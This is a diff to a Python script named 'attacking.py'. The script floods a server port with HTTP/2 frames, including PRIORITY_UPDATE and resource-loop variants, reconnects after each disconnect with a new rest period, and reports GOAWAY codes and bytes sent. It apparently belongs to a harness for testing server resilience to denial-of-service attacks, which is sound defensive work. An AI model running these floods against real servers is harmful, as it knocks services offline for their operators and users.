@@ -1,10 +1,11 @@
-"""Attacks on a server by HTTP/2 and TLS, each a small program: `attacking.py NAME PORT SECURED SECONDS`.
+"""Attacks on a server by HTTP/2, each a small program: `attacking.py NAME PORT SECURED SECONDS REST`.
 
-It says "ready", attacks for so long, again and again where it is cut, and prints what it saw as JSON: how often it
+It says "ready", attacks for so long, where it is cut again after a rest, and prints what it saw as JSON: how often it
 came, which codes of GOAWAY it got, how often it was cut, and how much it has sent.
 """
 
 import json
+import select
 import socket
 import ssl
 import sys
@@ -158,7 +159,7 @@ def resource_loop(get: bytes) -> Iterator[bytes]:
 
 def priority_updates(get: bytes) -> Iterator[bytes]:
     """The same with the frames of RFC 9218."""
-    for stream in cycle(range(1, 2001, 2)):
+    for stream in cycle(range(1, 101, 2)):
         yield frame(0x10, 0, 0, stream.to_bytes(4) + b"u=1, i")
 
 
@@ -233,10 +234,12 @@ FLOODS: dict[str, Flood] = {
 
 
 class Attacker:
-    """One that floods a port until a moment, and comes again each time that it is cut."""
+    """One that floods a port until a moment, and comes again, after a rest, each time that it is cut."""
 
-    def __init__(self, flood: Flood, port: int, secured: bool, until: float) -> None:
+    def __init__(self, flood: Flood, port: int, secured: bool, until: float, rest: float) -> None:
         self.seen = Seen()
+        self._rest = rest
+        self._waiting = b""
         self._flood = flood
         self._port = port
         self._secured = secured
@@ -256,6 +259,7 @@ class Attacker:
                 link.setblocking(False)
                 if self._pour(link):
                     self.seen.cut += 1
+                    time.sleep(self._rest)
                 else:
                     self.seen.standing = True
         return self.seen
@@ -264,21 +268,21 @@ class Attacker:
         """Whether the server has made an end before the time was over."""
         flood, frames = self._flood, Frames()
         steps = flood.steps(request(scheme=b"https" if self._secured else b"http"))
-        waiting = PREFACE + flood.opening
+        self._waiting = PREFACE + flood.opening
         while time.monotonic() < self._until:
-            if not waiting:
-                waiting = portion(steps, 1 if flood.pause else PORTION)
+            if not self._waiting:
+                self._waiting = portion(steps, 1 if flood.pause else PORTION)
             try:
-                sent = link.send(waiting[:PORTION]) if waiting else 0
+                sent = link.send(self._waiting[:PORTION]) if self._waiting else 0
                 self.seen.sent += sent
-                waiting = waiting[sent:]
-                time.sleep(flood.pause or (0.001 if not waiting else 0))
+                self._waiting = self._waiting[sent:]
+                time.sleep(flood.pause or (0.001 if not self._waiting else 0))
             except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                 time.sleep(0.001)
             except OSError:
                 self._read(link, frames)
                 return True
-            if not flood.deaf and self._read(link, frames):
+            if ended(link) if flood.deaf else self._read(link, frames):
                 return True
         return False
 
@@ -294,12 +298,19 @@ class Attacker:
                     elif each.kind == HEADERS:
                         self.seen.answers += 1
                     elif each.kind == SETTINGS and not each.flags & ACK:
-                        link.send(frame(SETTINGS, ACK))
+                        self._waiting += frame(SETTINGS, ACK)
         except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
             return False
         except OSError:
             pass
         return True
+
+
+def ended(link: socket.socket) -> bool:
+    """Whether the other end is gone, without reading anything."""
+    poll = select.poll()
+    poll.register(link, select.POLLRDHUP)
+    return bool(poll.poll(0))
 
 
 def portion(steps: Iterator[bytes], size: int) -> bytes:
@@ -315,9 +326,10 @@ def portion(steps: Iterator[bytes], size: int) -> bytes:
 
 def main() -> None:
     """Attack as the arguments say."""
-    name, port, secured, seconds = sys.argv[1:]
+    name, port, secured, seconds, rest = sys.argv[1:]
     print("ready", flush=True)
-    attacker = Attacker(FLOODS[name], int(port), bool(int(secured)), time.monotonic() + float(seconds))
+    until = time.monotonic() + float(seconds)
+    attacker = Attacker(FLOODS[name], int(port), bool(int(secured)), until, float(rest))
     print(json.dumps(vars(attacker.run())), flush=True)
 
 
